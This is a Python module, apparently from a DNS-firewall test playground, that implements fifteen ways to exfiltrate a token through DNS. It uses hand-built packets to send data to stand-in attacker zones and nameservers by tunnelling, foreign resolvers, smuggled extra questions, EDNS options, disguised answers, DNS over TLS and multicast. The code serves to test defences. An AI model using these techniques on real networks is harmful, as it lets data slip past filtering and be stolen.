"""Ways out through the DNS.

Law: one function a way. Questions are made by hand (RFC 1035 section 4.1), as malware does.
"""

from __future__ import annotations

import socket
import ssl
import struct

from dnsfw.playground import atlas
from dnsfw.playground.package.way import Loot, Way

A, TXT = 1, 16
_IN = 1
_QUESTION, _RESPONSE = 0x0100, 0x8180  # flags: RD; QR, RD, RA


def question(name: str, *, flags: int = _QUESTION, more: int = 0) -> bytes:
    """One question for A records; `more` is added to the count of questions, of additional records if over 0xffff."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    questions, additional = 1 + (more & 0xFFFF), more >> 16
    return struct.pack("!6H", 0x2A2A, flags, questions, 0, 0, additional) + labels + struct.pack("!BHH", 0, A, _IN)


def _stolen(loot: Loot) -> str:
    return f"{loot.token}.{atlas.EVIL_ZONE}"


def ask_udp(address: str, port: int, message: bytes) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as asking:
        asking.connect((address, port))
        asking.send(message)
        asking.recv(4096)


def ask_tcp(address: str, port: int, stream: bytes) -> None:
    with socket.create_connection((address, port)) as asking:
        asking.sendall(stream)
        asking.recv(4096)


def _framed(message: bytes) -> bytes:
    return struct.pack("!H", len(message)) + message


def tunnel(loot: Loot) -> None:
    socket.getaddrinfo(_stolen(loot), 443)


def tunnel_in_wildcard(loot: Loot) -> None:
    socket.getaddrinfo(f"{loot.token}.{atlas.WILDCARD_ZONE}", 443)


def foreign_udp(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v4, 53, question(_stolen(loot)))


def foreign_udp_v6(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v6, 53, question(_stolen(loot)))


def foreign_tcp(loot: Loot) -> None:
    ask_tcp(atlas.EVIL_NAMESERVER.v4, 53, _framed(question(_stolen(loot))))


def foreign_tcp_v6(loot: Loot) -> None:
    ask_tcp(atlas.EVIL_NAMESERVER.v6, 53, _framed(question(_stolen(loot))))


def behind_an_allowed_question(loot: Loot) -> None:
    both = _framed(question(atlas.ALLOWED_NAME)) + _framed(question(_stolen(loot)))
    ask_tcp(atlas.EVIL_NAMESERVER.v4, 53, both)


def second_question(loot: Loot) -> None:
    second = question(_stolen(loot))[12:]
    ask_udp(atlas.EVIL_NAMESERVER.v4, 53, question(atlas.ALLOWED_NAME, more=1) + second)


def after_the_question(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v4, 53, question(atlas.ALLOWED_NAME) + loot.token.encode())


def option_of_an_allowed_question(loot: Loot) -> None:
    """In an EDNS option for local use (RFC 6891 section 6.1.2; code 65001)."""
    data = loot.token.encode()
    option = struct.pack("!HH", 65001, len(data)) + data
    record = struct.pack("!BHHIH", 0, 41, 1232, 0, len(option)) + option
    ask_udp(atlas.UPSTREAM.v4, 53, question(atlas.ALLOWED_NAME, more=1 << 16) + record)


def disguised_as_an_answer(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v4, 53, question(_stolen(loot), flags=_RESPONSE))


def not_dns_at_all(loot: Loot) -> None:
    ask_tcp(atlas.EVIL_NAMESERVER.v4, 53, loot.token.encode())


def not_dns_at_all_udp(loot: Loot) -> None:
    ask_udp(atlas.EVIL_NAMESERVER.v4, 53, loot.token.encode())


def over_tls(loot: Loot) -> None:
    context = ssl.create_default_context(cafile=loot.authority)
    address = (atlas.EVIL_NAMESERVER.v4, 853)
    with socket.create_connection(address) as plain, context.wrap_socket(plain, server_hostname=address[0]) as asking:
        asking.sendall(_framed(question(_stolen(loot))))
        asking.recv(4096)


def multicast(loot: Loot) -> None:
    """RFC 6762, to everybody on the link."""
    message = question(f"{loot.token}.local", flags=0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.sendto(message, ("224.0.0.251", 5353))
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as asking:
        for index, name in socket.if_nameindex():
            if name != "lo":
                asking.sendto(message, ("ff02::fb", 5353, 0, index))


WAYS = (
    Way("dns-tunnel", "a name that is the message (a tunnel)", (16,), tunnel),
    Way(
        "dns-tunnel-wildcard",
        "the same under an allowed wildcard",
        (16,),
        tunnel_in_wildcard,
        "the policy allows these names; the wildcard's budget bounds how much can leave so, it doesn't prevent it",
    ),
    Way("dns-foreign-udp4", "the attacker's resolver over UDP, IPv4", (20,), foreign_udp),
    Way("dns-foreign-udp6", "the attacker's resolver over UDP, IPv6", (20,), foreign_udp_v6),
    Way("dns-foreign-tcp4", "the attacker's resolver over TCP, IPv4", (20,), foreign_tcp),
    Way("dns-foreign-tcp6", "the attacker's resolver over TCP, IPv6", (20,), foreign_tcp_v6),
    Way("dns-behind", "a denied question after an allowed one", (19,), behind_an_allowed_question),
    Way("dns-second", "a second question in one message", (17,), second_question),
    Way("dns-trailing", "bytes after an allowed question", (17,), after_the_question),
    Way("dns-option", "an option of an allowed question", (17,), option_of_an_allowed_question),
    Way("dns-answer", "a question disguised as an answer", (6, 17), disguised_as_an_answer),
    Way("dns-not-udp", "no DNS at all, to UDP port 53", (17, 20), not_dns_at_all_udp),
    Way("dns-not-tcp", "no DNS at all, to TCP port 53", (17, 20), not_dns_at_all),
    Way("dns-tls", "DNS over TLS", (20,), over_tls),
    Way("dns-multicast", "multicast DNS, IPv4 and IPv6", (20,), multicast),
)
